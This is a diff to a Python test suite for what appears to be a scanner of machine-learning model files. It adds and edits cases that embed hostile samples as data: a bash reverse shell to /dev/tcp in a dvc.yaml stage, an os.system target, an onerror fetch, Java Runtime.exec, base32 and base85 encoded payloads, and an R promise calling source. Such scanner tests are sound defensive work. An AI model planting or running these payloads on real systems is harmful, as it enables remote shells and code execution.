@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import gzip
 import json
 import struct
@@ -13,7 +14,7 @@ from tests.artifacts import containers as make
 from tests.artifacts.assembly import assemble
 from tests.artifacts.containers import EVIL
 from tests.artifacts.looking import DANGEROUS, NOTHING, SUSPICIOUS, inspect, said
-from vetline.artifacts import operations, zstandard
+from vetline.artifacts import zstandard
 from vetline.artifacts.view import View
 
 TEXT = "".join(f"line {n * n} of {n % 7} words, {'ab' * (n % 5)}\n" for n in range(120)).encode()
@@ -50,6 +51,13 @@ def julia(module: bytes, name: bytes) -> bytes:
     return bson(b"\x03model\0" + bson(bson_text(b"tag", b"struct"), b"\x03type\0" + bson(bson_text(b"tag", b"datatype"), names)))
 
 
+def promise(function: str, kind: int = 0x405) -> bytes:
+    """A value of R's that is the call of a function: as a promise without a value, of an environment, or (6) for itself."""
+    name = function.encode()
+    call = struct.pack(">iiii", 6, 1, 0x40009, len(name)) + name + struct.pack(">i", 254)
+    return b"X\n" + struct.pack(">iii", 2, 0x40300, 0x20300) + (call if kind == 6 else struct.pack(">iii", kind, 253, 252) + call)
+
+
 def template(text: str) -> bytes:
     return json.dumps({"chat_template": text}).encode()
 
@@ -76,16 +84,14 @@ CASES = [  # what it is, the bytes, the name, the verdict, words of a remark
     ("an issue of an operation that reads", make.saved_model("CSVDatasetV2"), "saved_model.pb", DANGEROUS, "reaches files"),
     ("a vocabulary that is read", make.saved_model("GenerateVocabRemapping"), "saved_model.pb", DANGEROUS, "reaches files"),
     ("checkpoints, as each model has them", make.saved_model("SaveV2", "RestoreV2", "MergeV2Checkpoints", "ShardedFilename"), "saved_model.pb", NOTHING, ""),
-    ("an operator that says what it does", make.onnx(domain="acme.ops", operation="RunShell"), "m.onnx", DANGEROUS, "native library"),
-    ("a domain that says what it is for", make.onnx(domain="com.evil", operation="Add"), "m.onnx", DANGEROUS, "native library"),
-    ("an operator that loads", make.onnx(domain="acme", operation="LoadLibrary"), "m.onnx", DANGEROUS, "native library"),
+    ("an operator of nobody's", make.onnx(domain="acme.ops", operation="Norm"), "m.onnx", DANGEROUS, "native library"),
     ("an operator of Python's", make.onnx(domain="ai.onnx.contrib", operation="PyCustomOpDef"), "m.onnx", DANGEROUS, "runs Python code"),
     ("an operator that calls a service", make.onnx(domain="com.microsoft.extensions", operation="AzureTextToText"), "m.onnx", DANGEROUS, "to an address"),
     ("ONNX as text", b'graph { initializer { external_data { key: "location" value: "../../x" } } }', "m.pbtxt", DANGEROUS, "outside the model's folder"),
     ("ONNX as text that runs Python", b'graph { node { op_type: "PyOp" } }', "m.pbtxt", DANGEROUS, "runs Python code"),
     ("a class in MXNet's graph", json.dumps({"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "shell"}}]}).encode(), "m.json", DANGEROUS, "(shell)"),
     ("a layer that is not Keras's", keras_layer(module="acme.layers", class_name="Gate", config={}), "m.keras", SUSPICIOUS, "not Keras's"),
-    ("a layer that says what it is for", keras_layer(module="acme.layers", class_name="Backdoor", config={}), "m.keras", DANGEROUS, "what it calls itself"),
+    ("a function in the place of a layer", keras_layer(module="tensorflow", class_name="load_op_library", config={}), "m.keras", DANGEROUS, "load_op_library called"),
     ("a model of an address without protection", keras_layer(class_name="KerasLayer", config={"handle": "http://x.invalid/1"}), "m.keras", DANGEROUS, "loads a SavedModel"),
     ("a node that skops has not", make.zipped([("schema.json", b'{"__loader__": "ExecNode", "__module__": "sklearn", "__class__": "A"}')]), "m.skops", SUSPICIOUS, "none of those"),
     ("TorchScript that calls elsewhere", make.zipped([("m/data.pkl", assemble("emptytuple")), ("m/code/__torch__.py", b"def forward(self, x: Tensor):\n  return ops.prim.rpc_async('h', x)\n")]), "m.pt", DANGEROUS, "rpc_async"),
@@ -112,7 +118,6 @@ CASES = [  # what it is, the bytes, the name, the verdict, words of a remark
     ("a picture that runs", make.safetensors({"__metadata__": {"d": "<img src=x onerror=fetch('x')>"}}), "m.safetensors", DANGEROUS, "holds code"),
     ("settings within facts", make.safetensors({"__metadata__": {"config": "a:\n  _target_: os.system\n"}}), "m.safetensors", DANGEROUS, "_target_"),
     ("a packed stream as a tensor", make.safetensors({"a": {"dtype": "U8", "shape": [len(gzip.compress(EVIL, mtime=0))], "data_offsets": [0, len(gzip.compress(EVIL, mtime=0))]}}, gzip.compress(EVIL, mtime=0)), "m.safetensors", DANGEROUS, "os.system"),
-    ("a layer that is registered as what it is", keras_layer(class_name="Gate", registered_name="acme>Backdoor", config={}), "m.keras", DANGEROUS, "says what it is for"),
     ("a layer that is registered", keras_layer(class_name="Gate", registered_name="acme>Gate", config={}), "m.keras", NOTHING, "Keras"),
     ("an array that no file holds", make.npy("'<f8'", b"", (1 << 50,)), "m.npy", DANGEROUS, "to exhaust its reader"),
     ("a place far off", assemble("none <72 ff ff ff 7f>", proto=2), "m.pkl", DANGEROUS, "the memo"),
@@ -128,7 +133,7 @@ CASES = [  # what it is, the bytes, the name, the verdict, words of a remark
     ("a command of Julia's", julia(b"Base", b"Cmd"), "m.bson", DANGEROUS, "Base.Cmd"),
     ("a layer of Julia's", julia(b"Main", b"Dense"), "m.bson", NOTHING, "BSON of Julia"),
     ("a program that calls Python", b"ML\xefR\x0dStableHLO\0xla_ffi_python_cpu_callback\0", "m.bin", DANGEROUS, "function of Python"),
-    ("a program that calls a stranger", b"module @m {\n stablehlo.custom_call @acme_gate() : () -> ()\n}\n", "m.mlir", SUSPICIOUS, "a native library has to bring"),
+    ("a program that calls a stranger", b"module @m {\n stablehlo.custom_call @acme_gate() : () -> ()\n}\n", "m.mlir", DANGEROUS, "a native library has to bring"),
     ("a program that calls its own", b"module @m {\n stablehlo.custom_call @Sharding() : () -> ()\n}\n", "m.mlir", NOTHING, "StableHLO"),
     ("a model as Java's source", b"public class m { static { Runtime.getRuntime().exec(\"x\"); } }\n", "m.java", DANGEROUS, "runs programs"),
     ("parts of a repository", b'[submodule "x"]\n\tpath = x\n\turl = https://x.invalid/x\n\tupdate = merge\n', ".gitmodules", NOTHING, ""),
@@ -145,6 +150,19 @@ CASES = [  # what it is, the bytes, the name, the verdict, words of a remark
     ("a template that writes a program", b"{% include 'collect.jinja' %}{{ param.default.__name__ }}", "collect.jinja", NOTHING, "Jinja"),
     ("a template that reads another", b"{% include 'x.jinja' %}{{ messages }}", "x.jinja", DANGEROUS, "another template"),
     ("what setuptools leaves", b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')", "x.pth", NOTHING, ""),
+    ("an operator behind another of its library", make.onnx(domain="com.microsoft.extensions", operation="Tokenizer") + make.onnx(domain="com.microsoft.extensions", operation="AzureTextToText"), "m.onnx", DANGEROUS, "to an address"),
+    ("a graph with a program behind it", make.onnx() + PROGRAM, "m.onnx", SUSPICIOUS, "no part of it"),
+    ("a layer of Caffe's", make.message((1, "n"), (100, make.message((1, "l"), (2, "Python"), (130, make.message((1, "os"), (2, "system")))))), "m.caffemodel", DANGEROUS, "the module os imported"),
+    ("layers of Caffe's", make.message((1, "n"), (100, make.message((1, "l"), (2, "Convolution")))), "m.caffemodel", NOTHING, "Caffe network"),
+    ("Python in the place of TorchScript", make.zipped([("m/data.pkl", assemble("emptytuple")), ("m/code/__torch__/m.py", b"class M(Module):\n  def forward(self, x):\n    import os\n    return x\n")]), "m.pt", DANGEROUS, "in the place of TorchScript"),
+    ("a link of Windows", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0" + b"\0" * 63, "m.pt", DANGEROUS, "a link of Windows"),
+    ("a stream in base32", assemble(repr(base64.b32encode(EVIL).decode())), "m.pkl", DANGEROUS, "os.system"),
+    ("a stream in base85", assemble(repr(base64.b85encode(EVIL).decode())), "m.pkl", DANGEROUS, "os.system"),
+    ("numbers that take for ever", template("{{ 9**9**9 }}"), "tokenizer_config.json", DANGEROUS, "no message is long for"),
+    ("a stage that opens a shell", b"stages:\n  a:\n    cmd: bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n", "dvc.yaml", DANGEROUS, "/dev/tcp"),
+    ("a promise of R's that reads a program", promise("source"), "m.rds", DANGEROUS, "a promise that calls source"),
+    ("a promise of R's that computes", promise("sqrt"), "m.rds", SUSPICIOUS, "with a call and a promise:"),
+    ("a call of R's that nothing evaluates", promise("source", kind=6), "m.rds", NOTHING, ""),
     ("packed data that breaks off", PACKED_TEXT[:-30], "m.zst", SUSPICIOUS, "damaged"),
 ]  # fmt: skip
 
@@ -176,12 +194,7 @@ def test_damage_to_zstandard_is_told(place: int) -> None:
             continue
 
 
-@pytest.mark.parametrize("name", ["CustomGelu", "NMSRotated", "SystemMatrix", "RoPE", "BatchedNMS", "Reader", "acme"])
-def test_names_of_operators_that_say_nothing(name: str) -> None:
-    assert operations.level(name) is SUSPICIOUS
-    assert not operations.admits(name)
-
-
-@pytest.mark.parametrize("name", ["MyPyTorchModel", "EvalCallback", "CommandEncoder", "Payload"])
-def test_names_of_classes_are_no_confessions(name: str) -> None:
-    assert not operations.admits(f"acme.{name}")
+def test_operators_of_ones_own_may_be_trusted() -> None:
+    stated = make.onnx(domain="acme.ops", operation="Norm")
+    assert inspect(stated, "m.onnx", own=("acme.ops.*",)).verdict is NOTHING
+    assert inspect(stated, "m.onnx", own=("acme.other.*",)).verdict is DANGEROUS
